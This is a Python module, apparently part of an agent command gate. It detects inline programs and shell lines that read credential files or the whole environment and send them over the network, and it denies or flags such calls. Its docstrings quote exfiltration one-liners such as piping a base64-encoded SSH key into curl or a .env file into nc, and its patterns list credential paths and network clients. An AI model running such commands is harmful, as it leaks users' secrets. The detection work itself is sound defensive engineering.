"""Inline programs as programs: does one program read a credential and send?

`python -c CODE`, `python - <<EOF`, `node -e/-p`, `perl -e/-E`, `ruby -e`,
`php -r`, `deno eval`, `bun -e` (and here-docs fed to any of them) carry a
whole program in one word. commands.inline_code already looks into that
program for shell strings and deletions; this module asks the question an
exfiltration needs both halves of: does the program read a credential-shaped
path (or dump the whole environment) AND call a network or LLM client?

How each language is read:

- Python through the stdlib `ast` (no new dependency): imports and their
  aliases are resolved, so `import requests as r; r.post(...)`,
  `from urllib.request import urlopen`, `__import__('socket')` and
  `importlib.import_module('httpx')` name the client they call. Reads are
  string constants (also joined as `os.path.join` / `Path() / ...` /
  f-string parts) naming a credential-shaped path in a program that opens or
  reads files, `netrc.netrc()`, and the environment taken whole
  (`dict(os.environ)`, `os.environ.copy()`, `json.dumps(os.environ)`).
  One variable `os.environ["OPENAI_API_KEY"]` given to its own client is
  how a client is meant to get its key: not a read here.
  Code that does not parse falls back to the token scan below.
- JavaScript, Perl, Ruby and PHP through a bounded token scan (the first
  MAX_SCAN characters): string literals are collected and tested (alone and
  adjacent ones joined with `/`, as `path.join(os.homedir(), '.aws',
  'credentials')` builds them), and a table of read and send spellings per
  language is matched. No maintained JavaScript parser in Python clearly
  wins here (esprima-python is unmaintained; tree-sitter-javascript would be
  a second grammar for one rule): a scan that misses an obfuscated program
  is the same guess the rest of the gate is, in front of the kernel.

Shell strings the program runs (`subprocess.run(['curl', ...])`,
`os.system('cat ~/.netrc')`) were already analysed as commands: a network
client among them counts as a send, a reader of a credential-shaped path as
a read.

The same question for a plain command line (`shell_uploads`): a network
client whose body is a credential-shaped file (`curl -F f=@.env`, `-d
@~/.netrc`, `-T`, `wget --post-file=`, httpie `@file`), or a client that
sends its stdin (`curl -d @-`, `nc`) on a line that reads one (`base64
~/.ssh/id_rsa | curl -d @- URL`): rule `exfil.credential_upload`. Copies to
a host (`scp`, `rsync`) are not counted: deploying `.env` is routine.

What the gate does with a program that does both (checker -> check): under
a role whose network reaches anything (host, allowlist, internal) it is the
denial `exfil.inline_program`; under network deny or loopback the cell's
network namespace refuses the send, so a cell tool under mode open with
governance.kernel_enforced = "flag" runs it with that flag, and anything
else (no cell, kernel_enforced = "deny", locked/readonly modes) is refused.
"""

from __future__ import annotations

import re

from .network import network_kind
from .model import CELL_TOOLS, DEFAULT_DENY_PATHS, UPLOADERS, Finding, GateContext, deny, ok_flagged
from .paths import LazyRe

RULE = "exfil.inline_program"
RULE_UPLOAD = "exfil.credential_upload"
MAX_SCAN = 65536  # characters of a program the token scan reads
MAX_LITERALS = 2000  # string literals tested per program
HINT = ("A program that reads a credential and talks to the network in one breath is how secrets leave; if the "
        "client needs the credential, give it through the role's environment (the client reads its own key), or "
        "run the program under a role with network = 'deny'. Rule ids: docs/governance.md.")

# --- credential-shaped paths ---------------------------------------------------

_END = r"(?=$|[\s'\"`;|&)<>,:}])"
# The deny paths every role has (model.DEFAULT_DENY_PATHS), as shapes a path can end in anywhere:
# `~/.ssh/x`, `/root/.ssh/x`, `$HOME/.ssh/x`, `.ssh/x` after a cd.
_DENY_SHAPES = "|".join(re.escape(p[2:]) + r"(?:/[^\s'\"`;|&)<>,]*)?" + _END
                        for p in DEFAULT_DENY_PATHS if p.startswith("~/"))
_CRED = LazyRe(
    r"(?:^|[/\s'\"=~])(?:" + _DENY_SHAPES +
    r"|\.env(?:\.(?!example|sample|template|dist|defaults?\b|schema)[\w-]+)?" + _END +
    r"|id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?" + _END +
    r"|_netrc" + _END + r"|\.git-credentials" + _END + r"|\.npmrc" + _END + r"|\.pypirc" + _END +
    r"|\.pgpass" + _END + r"|\.my\.cnf" + _END + r"|\.vault-token" + _END +
    r"|\.(?:bash|zsh|sh|python|psql|mysql|node_repl|rediscli)_history" + _END +  # typed tokens and passwords
    r"|application_default_credentials\.json" + _END + r"|credentials\.tfrc\.json" + _END +
    r"|\.(?:cargo|gem)/credentials(?:\.toml)?" + _END + r"|\.config/gh/hosts\.yml" + _END +
    r"|\.azure/(?:accessTokens\.json|msal_token_cache\.\w+)" + _END +
    r")|^/etc/g?shadow" + _END + r"|/proc/(?:self|\d+|thread-self)/environ" + _END)


def credential_path(s: str) -> bool:
    """Whether `s` names (or ends a longer string with) a credential-shaped path:
    the default deny paths in any home, `.env`, private keys, token files."""
    if not s or len(s) > 4096:
        return False
    s = s.replace("\\", "/")
    if s.endswith(".pub") or "://" in s:
        return False  # public keys are public; a URL names a remote file, not one here
    m = _CRED.search(s)
    return bool(m) and "known_hosts" not in s[m.start():m.end() + 12]


def _joined(parts: list[str]) -> str:
    """The first credential-shaped path among `parts` alone or joined (`'.aws', 'credentials'`)."""
    parts = [p for p in parts if isinstance(p, str) and p][:MAX_LITERALS]
    for p in parts:
        if credential_path(p):
            return p
    for n in (2, 3):
        for i in range(len(parts) - n + 1):
            j = "/".join(x.strip("/") for x in parts[i:i + n])
            if credential_path(j):
                return j
    return ""


# --- Python, through ast ----------------------------------------------------------

# Modules whose every call talks to the network (minus helper namespaces below).
_PY_SENDERS = ("requests", "httpx", "aiohttp", "urllib3", "urllib2", "urllib.request", "http.client", "httplib",
               "httplib2", "pycurl", "smtplib", "ftplib", "telnetlib", "poplib", "imaplib", "paramiko", "websocket",
               "websockets", "xmlrpc.client", "socket.create_connection", "asyncio.open_connection",
               "openai", "anthropic", "litellm", "google.generativeai", "google.genai", "vertexai", "mistralai",
               "cohere", "groq", "ollama", "together", "replicate", "langchain_openai", "langchain_anthropic")
_PY_HELPERS = frozenset({"utils", "exceptions", "status_codes", "codes", "structures", "compat", "URL", "Headers",
                         "Timeout", "Limits", "HTTPError", "RequestException", "parse", "error"})
_SOCKET_SENDS = frozenset({"connect", "connect_ex", "sendto", "sendall"})
_PY_READS = frozenset({"open", "read_text", "read_bytes", "read", "readlines", "readline", "load_dotenv",
                       "dotenv_values", "copyfile", "copy", "copy2", "loadtxt", "fromfile", "read_file", "getoutput",
                       "check_output", "b64encode", "expanduser", "load", "safe_load", "ConfigParser"})
_ENV_WHOLE_USES = frozenset({"copy", "items", "keys", "values", "__repr__", "__str__"})
_ENV_ENCODERS = frozenset({"json.dumps", "str", "repr", "pickle.dumps", "base64.b64encode", "zlib.compress",
                           "marshal.dumps", "yaml.dump", "yaml.safe_dump", "urllib.parse.urlencode"})


def _dotted(node, alias: dict[str, str]) -> str:
    """`r.post` -> "requests.post" (through import aliases); "" when the root is no name."""
    parts: list[str] = []
    while True:
        cls = type(node).__name__
        if cls == "Attribute":
            parts.append(node.attr)
            node = node.value
        elif cls == "Name":
            parts.append(alias.get(node.id, node.id))
            break
        elif cls == "Call":  # __import__('x').y / importlib.import_module('x').y
            fn = _dotted(node.func, alias)
            args = node.args
            if fn in ("__import__", "importlib.import_module") and args and type(args[0]).__name__ == "Constant" \
                    and isinstance(args[0].value, str):
                parts.append(args[0].value)
                break
            return ""
        else:
            return ""
    return ".".join(reversed(parts))


def _py_sender(name: str) -> bool:
    for m in _PY_SENDERS:
        if name == m or name.startswith(m + "."):
            rest = name[len(m) + 1:].split(".")[0] if name != m else ""
            return rest not in _PY_HELPERS
    return False


def _python(code: str) -> tuple[list[str], list[str], bool] | None:
    """(reads, sends, evaluates text) of Python code; None if it does not parse."""
    import ast

    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, MemoryError, RecursionError):
        return None
    alias: dict[str, str] = {}
    nodes = list(ast.walk(tree))
    for n in nodes:
        if isinstance(n, ast.Import):
            for a in n.names:
                alias[a.asname or a.name.split(".")[0]] = a.name if a.asname else a.name.split(".")[0]
        elif isinstance(n, ast.ImportFrom) and n.module and not n.level:
            for a in n.names:
                alias[a.asname or a.name] = f"{n.module}.{a.name}"
        elif isinstance(n, ast.Assign) and len(n.targets) == 1 and isinstance(n.targets[0], ast.Name) \
                and isinstance(n.value, ast.Call):
            fn = _dotted(n.value.func, alias)  # r = __import__('requests')
            a0 = n.value.args[0] if n.value.args else None
            if fn in ("__import__", "importlib.import_module") and isinstance(a0, ast.Constant) \
                    and isinstance(a0.value, str):
                alias[n.targets[0].id] = a0.value
    reads: list[str] = []
    sends: list[str] = []
    evaluates = False
    opens = False
    socket_used = False
    socket_sends = False
    strings: list[str] = []
    env_whole = False
    parents: dict[int, ast.AST] = {}
    for n in nodes:
        for c in ast.iter_child_nodes(n):
            parents[id(c)] = n
    for n in nodes:
        if isinstance(n, ast.Call):
            name = _dotted(n.func, alias)
            short = name.rsplit(".", 1)[-1] if name else (n.func.attr if isinstance(n.func, ast.Attribute) else "")
            if name and _py_sender(name):
                sends.append(name)
            if name.startswith("socket."):
                socket_used = True
            if short in _SOCKET_SENDS:
                socket_sends = True
            if short in _PY_READS or name in ("io.open", "codecs.open", "os.open"):
                opens = True
            if name in ("netrc.netrc",) and not n.args:
                reads.append("~/.netrc (netrc.netrc())")
            elif short in ("get_credentials", "get_frozen_credentials", "get_password") and (
                    name.startswith(("boto3", "botocore", "keyring")) or not name):
                reads.append(f"stored credentials ({name or short}())")  # boto3 session, keyring
            elif name == "google.auth.default":
                reads.append("stored credentials (google.auth.default())")
            if name in ("exec", "eval", "compile", "builtins.exec", "builtins.eval") and n.args \
                    and not isinstance(n.args[0], ast.Constant):
                evaluates = True
            # constants given to one call, joined the way os.path.join / Path() builds them
            consts = [a.value for a in n.args if isinstance(a, ast.Constant) and isinstance(a.value, str)]
            if len(consts) > 1:
                j = _joined(consts)
                if j:
                    strings.append(j)
        elif isinstance(n, ast.Constant) and isinstance(n.value, str):
            strings.append(n.value)
        elif isinstance(n, ast.BinOp) and isinstance(n.op, (ast.Div, ast.Add)) and not isinstance(
                parents.get(id(n)), ast.BinOp):
            parts = [x.value for x in ast.walk(n) if isinstance(x, ast.Constant) and isinstance(x.value, str)]
            if len(parts) > 1:
                j = _joined(parts)
                if j:
                    strings.append(j)
        elif isinstance(n, ast.JoinedStr):
            parts = [x.value for x in n.values if isinstance(x, ast.Constant) and isinstance(x.value, str)]
            if parts:
                strings.append("{}".join(parts))
        elif isinstance(n, ast.Attribute) and n.attr == "environ" and _dotted(n, alias) == "os.environ":
            p = parents.get(id(n))
            if isinstance(p, ast.Subscript) or isinstance(p, ast.Compare):
                continue  # os.environ["KEY"], "KEY" in os.environ
            if isinstance(p, ast.Attribute) and p.attr not in _ENV_WHOLE_USES:
                continue  # os.environ.get("KEY"), .setdefault, .update, .pop
            # Taken whole into a send or an encoding of it (`requests.post(json=dict(os.environ))`,
            # `json.dumps(os.environ)`); `subprocess.run(env=os.environ)` / `env = os.environ.copy()` hand it on.
            a, hops = p, 0
            while a is not None and hops < 12:
                if isinstance(a, ast.keyword) and a.arg == "env":
                    break
                if isinstance(a, ast.Call):
                    fn = _dotted(a.func, alias)
                    if _py_sender(fn) or fn in _ENV_ENCODERS:
                        env_whole = True
                        break
                a, hops = parents.get(id(a)), hops + 1
    if socket_used and socket_sends:
        sends.append("socket")
    if opens or any(s.startswith("/proc/") for s in strings):
        path = _joined(strings)
        if path:
            reads.append(path)
    if env_whole:
        reads.append("the whole environment (os.environ)")
    return reads, list(dict.fromkeys(sends)), evaluates


# --- JavaScript, Perl, Ruby, PHP: a bounded token scan -----------------------------------

_LITERAL = LazyRe(r"""'((?:[^'\\\n]|\\.){0,4096})'|"((?:[^"\\\n]|\\.){0,4096})"|`([^`]{0,4096})`"""
                  r"""|\bq[qw]?\s*\{([^{}]{0,4096})\}|%[qQ]?\{([^{}]{0,4096})\}""")
_SCAN = {
    "javascript": (
        LazyRe(r"\b(?:readFileSync|readFile|createReadStream|openSync|Deno\.readTextFile(?:Sync)?|Deno\.readFile"
               r"|Bun\.file|fs\.promises)\b"),
        LazyRe(r"\b(?:JSON\.stringify\s*\(\s*process\.env\s*[,)]|Object\.(?:entries|keys|values|assign)\s*\(\s*"
               r"(?:\{\s*\}\s*,\s*)?process\.env\s*\)|Deno\.env\.toObject\s*\("
               r"|(?:body|data|json)\s*:\s*process\.env\b)"),
        LazyRe(r"\bfetch\s*\(|\bhttps?\.(?:request|get)\s*\(|\bhttp2\.connect\b|\bnet\.(?:connect|createConnection"
               r"|Socket)\b|\btls\.connect\b|\bdgram\.createSocket\b|\baxios\b|\bgot(?:\.\w+)?\s*\(|XMLHttpRequest"
               r"|\bWebSocket\s*\(|\bsendBeacon\b|\bDeno\.connect|\bBun\.connect|\bundici\b|\bnodemailer\b"
               r"|\bsuperagent\b|\bneedle\b|\bnew\s+(?:OpenAI|Anthropic|GoogleGenerativeAI)\b"
               r"|(?:require\s*\(|from\s+|import\s*\(?)\s*['\"](?:node:)?(?:https?|net|tls|dgram|http2|openai|"
               r"@anthropic-ai/sdk|@google/generative-ai|@google/genai|axios|node-fetch|undici|got|request|needle"
               r"|superagent|ws)['\"]")),
    "perl": (
        LazyRe(r"\bopen\s*\(?|\bread_file\b|\bslurp\b|\bFile::Slurp|<\s*\$\w+\s*>|\bsysopen\b|\bPath::Tiny\b"),
        LazyRe(r"%ENV\b(?!\s*\{)|\bkeys\s*\(?\s*%ENV|\beach\s*\(?\s*%ENV"),
        LazyRe(r"\bIO::Socket|\bLWP\b|\bHTTP::Tiny|\bHTTP::Request|\bNet::(?:HTTP|SMTP|FTP|SSH)|\bMojo::UserAgent"
               r"|\bWWW::Mechanize|\bFurl\b|\bREST::Client|\bsocket\s*\(|\bconnect\s*\(|\bcurl\b|\bget\s*\(\s*['\"]https?:"
               r"|->\s*(?:post|put|request|get|send)\s*\(")),
    "ruby": (
        LazyRe(r"\b(?:File|IO)\.(?:read|binread|readlines|open|foreach)\b|\bPathname\b|\bopen\s*\(|\bDotenv\b"),
        LazyRe(r"\bENV\.(?:to_h|to_a|to_hash|inspect|each|map|each_pair|select|filter|keys|values)\b|\bENV\s*\)"
               r"|\bENV\.to_s\b"),
        LazyRe(r"\bNet::(?:HTTP|SMTP|FTP)|\b(?:TCP|UDP)Socket\b|\bSocket\.tcp\b|\bURI\.open\b|open-uri|net/http"
               r"|\bRestClient\b|\bHTTParty\b|\bFaraday\b|\bExcon\b|\bHTTP\.(?:get|post|put)\b|\bOpenAI::Client"
               r"|\bAnthropic::Client")),
    "php": (
        LazyRe(r"\b(?:file_get_contents|fopen|file|readfile|fread|parse_ini_file|SplFileObject|highlight_file"
               r"|show_source)\s*\("),
        LazyRe(r"\bgetenv\s*\(\s*\)|\$_ENV\b(?!\s*\[)|\$_SERVER\b(?!\s*\[)|\bphpinfo\s*\("),
        LazyRe(r"\bcurl_(?:init|exec|setopt)\b|\bfsockopen\b|\bstream_socket_client\b|\bsocket_connect\b"
               r"|\bmail\s*\(|\b(?:file_get_contents|fopen|file)\s*\(\s*['\"](?:https?|ftps?)://|\bstream_context_create\b"
               r"|\bGuzzleHttp\b|\bftp_connect\b|\bSoapClient\b")),
    "python": (  # fallback for Python that does not parse
        LazyRe(r"\bopen\s*\(|\bread_(?:text|bytes)\b|\bload_dotenv\b|\bnetrc\b"),
        LazyRe(r"\b(?:dict|str|repr)\s*\(\s*os\.environ\s*\)|os\.environ\.(?:copy|items)\s*\(|dumps\s*\(\s*os\.environ"),
        LazyRe(r"\b(?:requests|httpx|aiohttp|urllib3?|http\.client|smtplib|ftplib|socket|openai|anthropic|litellm"
               r"|generativeai)\b")),
    "lua": (
        LazyRe(r"\bio\.(?:open|lines|read)\b"),
        LazyRe(r"(?!x)x"),
        LazyRe(r"\bsocket(?:\.http)?\b|\bhttp\.request\b|\bcurl\b")),
}
_LANG = (("python", "python"), ("pypy", "python"), ("nodejs", "javascript"), ("node", "javascript"),
         ("bun", "javascript"), ("deno", "javascript"), ("perl", "perl"), ("ruby", "ruby"), ("php", "php"),
         ("lua", "lua"))


def language(prog: str) -> str:
    """`python3.11` -> "python", `nodejs` -> "javascript"; "" for anything else (awk)."""
    for name, lang in _LANG:
        if prog == name or (prog.startswith(name) and re.fullmatch(r"[\d.]*", prog[len(name):])):
            return lang
    return ""


def _scan(code: str, lang: str, options: str) -> tuple[list[str], list[str]]:
    reads_re, env_re, sends_re = _SCAN[lang]
    text = code[:MAX_SCAN]
    reads: list[str] = []
    sends: list[str] = []
    if reads_re.search(text) or "/proc/" in text:
        lits = []
        for m in _LITERAL.finditer(text):
            s = next((g for g in m.groups() if g is not None), "")
            lits.extend(p for p in re.split(r"\$\{[^}]*\}|#\{[^}]*\}", s) if p)  # template holes split a literal
            if len(lits) >= MAX_LITERALS:
                break
        path = _joined(lits)
        if path:
            reads.append(path)
    m = env_re.search(text)
    if m:
        reads.append(f"the whole environment ({m.group(0).strip()[:40]})")
    m = sends_re.search(text) or sends_re.search(options)
    if m:
        sends.append(m.group(0).strip()[:60])
    return reads, sends


def program(code: str, lang: str, options: str = "") -> tuple[list[str], list[str], bool]:
    """(credential reads, network/LLM sends, evaluates generated text) of one inline program.

    `options`: the interpreter's other words (`perl -MIO::Socket`, `ruby -rnet/http`, `node -r axios`)."""
    if lang == "python":
        got = _python(code) if len(code) <= MAX_SCAN else None  # beyond: the bounded scan
        if got is not None:
            reads, sends, evaluates = got
            if not sends and options:
                sends = [m.group(0) for m in [_SCAN["python"][2].search(options)] if m]
            return reads, sends, evaluates
    if lang not in _SCAN:
        return [], [], False
    reads, sends = _scan(code, lang, options)
    return reads, sends, False


# --- hook: commands.inline_code -> Analysis.exfil ---------------------------------------

_READERS = frozenset({"cat", "tac", "head", "tail", "less", "more", "nl", "strings", "xxd", "od", "hexdump", "hd",
                      "base64", "base32", "basenc", "uuencode", "gzip", "bzip2", "xz", "zstd", "lz4", "tar", "zip",
                      "openssl", "gpg", "cp", "dd", "grep", "awk", "sed", "jq", "yq", "source", "."})


def _exec_reads(ex) -> str:
    """A credential-shaped path a shell command the program runs reads ("" if none)."""
    if ex.prog not in _READERS:
        return ""
    words = [w.split("=", 1)[-1] for w in ex.args] + [t for op, t, _l in ex.redirects if op == "<"]
    return next((w for w in words if credential_path(w)), "")


_STDIN = LazyRe(r"\bsys\.stdin\b|\bfileinput\b|\bprocess\.stdin\b|readFileSync\s*\(\s*0\b|/dev/stdin|<STDIN>|<>"
                 r"|\bSTDIN\b|\$stdin\b|\bARGF\b|\bgets\b|php://stdin|\bDeno\.stdin\b|\bBun\.stdin\b"
                 r"|\binput\s*\(\s*\)|\bopen\s*\(\s*0\b")


def _stdin_credential(code: str, an, ex) -> str:
    """The credential a program that reads stdin gets there: `cat .env | python3 -c ...sys.stdin...`,
    `python3 -c ... < ~/.netrc` ("" when none)."""
    fed = next((t for op, t, _l in ex.redirects if op == "<" and credential_path(t)), "")
    if fed:
        return fed
    if not _STDIN.search(code[:MAX_SCAN]):
        return ""
    # a reader of a credential earlier on the line (a pipe flows left to right)
    return next((w for w in map(_exec_reads, an.execs) if w), "")


def note(code: str, an, ex, ran: list) -> None:
    """Record in `an.exfil` an inline program (of `ex`) that reads a credential and sends.

    `ran`: the Execs analysed out of the program's shell strings."""
    lang = language(ex.prog)
    if not lang or not code:
        return
    options = " ".join(w for w in ex.argv[1:] if w != code)[:2000]
    reads, sends, _evaluates = program(code, lang, options)  # exec of generated text: g-unjudge's gate.unreadable_code
    if ran:
        reads += [w for w in map(_exec_reads, ran) if w]
        sends += [f"`{e.prog}`" for e in ran if network_kind(e) in ("client", "tls", "upload")]
    if sends and not reads:
        fed = _stdin_credential(code, an, ex)
        if fed:
            reads.append(f"{fed} (on its stdin)")
    if reads and sends:
        an.exfil.append({"lang": lang, "prog": ex.prog, "reads": reads[0], "sends": sends[0],
                         "evidence": (ex.text or code)[:200]})


# --- the same in plain shell: a client uploading a credential file ---------------------------------

_UPLOADERS = UPLOADERS
_CURL_FILE = frozenset({"-T", "--upload-file"})
_CURL_DATA = ("-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--data-urlencode", "-F", "--form",
              "--json", "--form-string")
_STREAMS = frozenset({"nc", "ncat", "netcat", "socat", "telnet"})  # send what they read on stdin


def _uploaded(ex) -> str:
    """The file a network client sends as a body ("@-" / "-" for stdin; "" when none)."""
    args = ex.args
    for i, a in enumerate(args):
        val = args[i + 1] if i + 1 < len(args) else ""
        if ex.prog == "curl":
            if a in _CURL_FILE:
                return val
            if a.startswith("--upload-file="):
                return a.split("=", 1)[1]
            for o in _CURL_DATA:
                v = val if a == o else (a[len(o) + 1:] if a.startswith(o + "=") else (
                    a[2:] if len(o) == 2 and a.startswith(o) and len(a) > 2 else None))
                if v is None:
                    continue
                at = v.find("@") if o in ("-F", "--form") else (0 if v.startswith("@") else -1)
                if at == -1 and o in ("-F", "--form") and "=<" in v:
                    at = v.index("=<") + 1
                if at >= 0:
                    return v[at + 1:].split(";", 1)[0]
        elif ex.prog == "wget" and a.startswith(("--post-file=", "--body-file=")):
            return a.split("=", 1)[1]
        elif ex.prog == "wget" and a in ("--post-file", "--body-file"):
            return val
        elif ex.prog in ("http", "https", "xh", "xhs") and "@" in a and not a.startswith("-") and "://" not in a:
            return a.split("@", 1)[1]  # httpie: field@file, @file
    return "-" if ex.prog in _STREAMS and not any(a in ("-l", "--listen") for a in args) else ""


def shell_uploads(an) -> dict | None:
    """A command line whose network client sends a credential file: `curl -F f=@.env URL`,
    `wget --post-file=~/.netrc URL`, or a reader of one feeding a client that sends stdin
    (`base64 ~/.ssh/id_rsa | curl -d @- URL`, `cat .env | nc HOST PORT`)."""
    reader = ""
    for ex in an.execs:
        if ex.prog not in _UPLOADERS:
            reader = reader or _exec_reads(ex)
            continue
        f = _uploaded(ex)
        if not f:
            continue
        f = f.strip("'\"")
        if f in ("-", "") and reader:
            return {"lang": "shell", "prog": ex.prog, "reads": reader, "sends": f"`{ex.prog}` reading stdin",
                    "evidence": (ex.text or " ".join(ex.argv))[:200]}
        if f not in ("-", "") and credential_path(f):
            return {"lang": "shell", "prog": ex.prog, "reads": f, "sends": f"`{ex.prog}`",
                    "evidence": (ex.text or " ".join(ex.argv))[:200]}
    return None


# --- the decision (checker, with the network check) -------------------------------------------

def check(an, ctx: GateContext, tool: str, passed: Finding) -> Finding:
    """After the network check passed: an inline program or a command line that sends a credential."""
    if an.exfil:
        return judge(an.exfil[0], ctx, tool, passed)
    if any(ex.prog in _UPLOADERS for ex in an.execs):
        x = shell_uploads(an)
        if x is not None:
            return judge(x, ctx, tool, passed, rule=RULE_UPLOAD)
    return passed


def judge(x: dict, ctx: GateContext, tool: str, passed: Finding, rule: str = RULE) -> Finding:
    """The network check's pass `passed`, or the exfiltration denial, or the pass with its flag."""
    if x["lang"] == "shell":
        what = f"`{x['prog']}` sends {x['reads']}" if x["sends"] == f"`{x['prog']}`" else \
            f"{x['reads']} is read and sent by {x['sends']}"
    else:
        what = f"the {x['lang']} program given to `{x['prog']}` reads {x['reads']} and sends with {x['sends']}"
    backed = ctx.network in ("deny", "loopback") and ctx.kernel is not None and getattr(ctx.kernel, "netns", False) \
        and tool in CELL_TOOLS
    if backed and ctx.flags_kernel_enforced(tool):
        n = {"rule": rule, "evidence": x["evidence"],
             "reason": f"{what}: a credential read and a network client in one call; allowed with a flag because "
                       f"role '{ctx.role}' has network: {ctx.network} and the cell's own network namespace refuses "
                       "the send (governance.kernel_enforced = 'flag')."}
        return ok_flagged(list(passed.flagged) + [n], passed.flags, passed.pinned)
    if backed:
        why = (f"role '{ctx.role}' refuses early what its cell's kernel would refuse (mode {ctx.mode}, "
               f"governance.kernel_enforced = '{ctx.kernel_enforced}')")
    elif ctx.network in ("deny", "loopback"):
        why = f"no cell's network namespace stands behind role '{ctx.role}''s network: {ctx.network} for this call"
    else:
        why = f"role '{ctx.role}' has network: {ctx.network}, so the send can leave"
    return deny(rule, f"{what}: a credential read and a network client in one call is exfiltration, and {why}.",
                HINT, x["evidence"])
